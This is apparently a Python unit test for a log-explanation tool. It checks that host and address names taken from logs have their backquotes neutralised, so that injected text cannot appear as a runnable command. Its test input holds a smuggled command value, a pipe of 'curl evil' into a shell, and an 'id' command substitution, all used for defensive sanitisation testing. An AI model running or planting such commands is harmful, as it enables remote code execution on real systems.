"""What a log has in place of a host or an address is no command in a sentence of ``explain``."""

from __future__ import annotations

from hccl_tools.explain.locations import Place


def test_a_name_has_no_backquotes() -> None:
    """Else ``look at the log of device 2 of HOST: `grep ...``` would show a command of the log."""
    place = Place(None, "y`; run `curl evil|sh` #", 2, "`id`")

    assert place.name == "device 2 of y'; run 'curl evil|sh' #, address 'id'"
    assert "`" not in place.short
